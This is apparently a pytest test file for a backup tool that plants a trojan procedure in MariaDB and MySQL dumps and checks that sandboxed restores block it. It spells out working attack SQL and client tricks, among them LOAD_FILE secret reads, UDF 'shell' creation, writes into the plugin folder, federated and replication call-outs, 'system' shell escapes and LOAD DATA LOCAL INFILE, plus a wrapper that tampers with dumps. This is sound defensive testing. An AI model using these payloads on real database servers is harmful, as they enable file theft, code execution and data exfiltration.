"""Hostile dumps of MariaDB and MySQL: what they try gets nowhere behind the walls, and works where there are none."""

from __future__ import annotations

import contextlib
import shlex
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass, field
from pathlib import Path
from typing import cast

import pytest

from tests.drills.bench import asked, drill_bench
from tests.drills.ground import short_folder
from tests.drills.installation import programs_of
from tests.engines.places import ServerPlace
from tests.servers import Kind, MySqlServer, Servers
from vya_backup.errors import BackupError

TOOLS = {"mariadb": "mariadb-dump", "mysql": "mysqldump"}
CLIENTS = {"mariadb": "mariadb", "mysql": "mysql"}
CALLS = {
    "mariadb": (
        "INSTALL SONAME 'ha_federatedx'",
        "CREATE TABLE mysql.remote (a int) ENGINE=FEDERATED CONNECTION='mysql://u:p@127.0.0.1:{port}/d/t'",
        "CHANGE MASTER TO MASTER_HOST='127.0.0.1', MASTER_PORT={port}, MASTER_USER='u', MASTER_PASSWORD='p'",
        "START SLAVE",
    ),
    "mysql": (
        "INSTALL PLUGIN federated SONAME 'ha_federated.so'",
        "CREATE SERVER remote FOREIGN DATA WRAPPER mysql OPTIONS (HOST '127.0.0.1', PORT {port}, USER 'u')",
        "CHANGE REPLICATION SOURCE TO SOURCE_HOST='127.0.0.1', SOURCE_PORT={port}, SOURCE_USER='u'",
        "START REPLICA",
    ),
}
"""Ways out to the network."""
CALL = "s/^-- Dump completed/CALL attack();\\n&/"
OTHERS = (
    "SET GLOBAL event_scheduler = ON",
    "SET GLOBAL local_infile = ON",
    "CREATE FUNCTION shell RETURNS STRING SONAME 'udf.so'",
    "SELECT 1 INTO DUMPFILE '/usr/lib/mysql/plugin/vya_written.so'",
    "SELECT 'x' INTO OUTFILE '{folder}/written'",
)


TRICKS = {
    "run": "system touch {folder}/written;",
    "run in short": "\\\\! touch {folder}/written;",
    "send": "LOAD DATA LOCAL INFILE '{folder}/secret' INTO TABLE report;",
}


@dataclass
class Bait:
    """A secret that anybody may read, a folder that anybody may write to, and a port that hangs up on its callers."""

    folder: Path
    listener: socket.socket
    called: threading.Event = field(default_factory=threading.Event)

    @property
    def port(self) -> int:
        """Return the port."""
        return int(self.listener.getsockname()[1])

    @property
    def was_written_to(self) -> bool:
        """Say whether somebody has left a file."""
        return (self.folder / "written").exists()

    def hang_up(self) -> None:
        """Answer and hang up, for as long as the listener lives."""
        with contextlib.suppress(OSError):
            while True:
                self.listener.accept()[0].close()
                self.called.set()


@pytest.fixture
def bait() -> Iterator[Bait]:
    """Set everything out."""
    with short_folder() as folder, socket.create_server(("127.0.0.1", 0)) as listener:
        (folder / "secret").write_text("treasure")
        (folder / "secret").chmod(0o644)
        folder.chmod(0o777)
        made = Bait(folder, listener)
        threading.Thread(target=made.hang_up, daemon=True).start()
        yield made


def pytest_generate_tests(metafunc: pytest.Metafunc) -> None:
    """Take MySQL too with `--long`."""
    if "kind" in metafunc.fixturenames:
        kinds = ["mariadb"] + (["mysql"] if metafunc.config.getoption("--long") else [])
        metafunc.parametrize("kind", kinds)


def sow(server: MySqlServer, bait: Bait) -> None:
    """Make a database whose procedure `attack`, as root, tries everything and notes what it could read."""
    server.drop_database("trojan")
    server.create_database("trojan")
    attempts = [one.format(port=bait.port, folder=bait.folder) for one in (*OTHERS, *CALLS[server.engine])]
    body = "\n".join(
        f"SET @word = {quoted(one)}; PREPARE word FROM @word; EXECUTE word; DEALLOCATE PREPARE word;"
        for one in attempts
    )
    server.load(
        f"""CREATE TABLE report (secret varchar(20));
        INSERT INTO report VALUES ('unread');
        DELIMITER ;;
        CREATE DEFINER=`root`@`localhost` PROCEDURE attack() SQL SECURITY DEFINER BEGIN
            DECLARE CONTINUE HANDLER FOR SQLEXCEPTION BEGIN END;
            UPDATE report SET secret = COALESCE(LOAD_FILE('{bait.folder}/secret'), 'unread');
            {body}
            DO SLEEP(1);
        END;;
        DELIMITER ;""",
        "trojan",
    )


def quoted(text: str) -> str:
    """Return a literal."""
    return "'" + text.replace("'", "''") + "'"


def corrupt_tool(server: MySqlServer, prefix: Path, change: str = CALL) -> Path:
    """Make a dump tool whose dumps have something more behind their routines, and lack MariaDB's line of caution."""
    prefix.mkdir(parents=True)
    name = TOOLS[server.engine]
    real, ours = shlex.quote(str(server.client_folder / name)), prefix / name
    call = f"sed -e '/999999.*sandbox/d' -e {shlex.quote(change)}"
    ours.write_text(
        f'#!/bin/bash\nset -o pipefail\ncase " $* " in *" --routines "*) {real} "$@" | {call};; *) exec {real} "$@";;'
        " esac\n"
    )
    ours.chmod(0o755)
    return prefix


@pytest.mark.parametrize("walls", ["bubblewrap", "none"])
def test_a_dump_that_attacks_with_all_rights_of_the_server_gets_nowhere(
    kind: Kind, servers: Servers, tmp_path: Path, ground: Path, bait: Bait, walls: str
) -> None:
    """Without walls it calls its master; files are out of its reach there too, since `secure_file_priv` is set."""
    server = cast(MySqlServer, servers.shared(kind))
    sow(server, bait)
    corrupt = corrupt_tool(server, bait.folder / "corrupt")
    bench = drill_bench(ServerPlace(server), tmp_path, ground, corrupt, programs_of(server, bait.folder))
    with closing(bench.workspace.catalog):
        row = bench.backup("trojan")
        server.drop_database("trojan")
        assert b"CALL attack()" in bench.plain(row)

        done = bench.drill(
            row, sandbox=walls, assertions=[asked("SELECT secret FROM report", "unread", "place/trojan")]
        )

    assert (done.verdict, done.assertions) == ("pass", 1), done.reason
    assert not bait.was_written_to
    assert bait.called.is_set() == (walls == "none")


def test_the_attack_on_files_is_a_real_one(kind: Kind, fresh_server: object, bait: Bait) -> None:
    """On a server that trusts its root, the same procedure reads the secret and writes outside."""
    assert callable(fresh_server)
    server = cast(MySqlServer, fresh_server(kind))
    sow(server, bait)

    server.sql("CALL attack()", "trojan")

    assert server.sql("SELECT secret FROM report", "trojan") == [("treasure",)]
    assert bait.was_written_to


@pytest.mark.parametrize("trick", TRICKS)
def test_a_dump_cannot_make_the_client_run_or_send_anything(
    kind: Kind, servers: Servers, tmp_path: Path, ground: Path, bait: Bait, trick: str
) -> None:
    """A restore's own client refuses, although the dump lacks MariaDB's line of caution; a bare one obeys."""
    server = cast(MySqlServer, servers.shared(kind))
    words = TRICKS[trick].format(folder=bait.folder)
    sow(server, bait)
    server.sql("SET GLOBAL local_infile = ON")
    corrupt = corrupt_tool(server, bait.folder / "corrupt", f"s#^-- Dump completed#{words}\\n&#")
    bench = drill_bench(ServerPlace(server), tmp_path, ground, corrupt)
    said = ""
    with closing(bench.workspace.catalog):
        row = bench.backup("trojan")
        assert words.replace("\\\\", "\\").encode() in bench.plain(row)
        try:
            bench.restore(row, to="copy")
        except BackupError as error:
            said = str(error)
    # a secret that arrived in a table would be noticed by its row only
    refused = "rows instead" not in said and not bait.was_written_to
    subprocess.run(
        [
            str(server.client_folder / CLIENTS[server.engine]),
            f"--defaults-file={server.option_file()}",
            *("--local-infile=1", "--loose-commands", "--loose-system-command", "--database=trojan"),
        ],
        input=f"{words}\n".encode().replace(b"\\\\", b"\\"),
        check=False,
    )
    obeyed = ("treasure",) in server.sql("SELECT secret FROM report", "trojan") or bait.was_written_to
    for name in ("trojan", "copy"):
        server.drop_database(name)

    assert refused
    assert obeyed
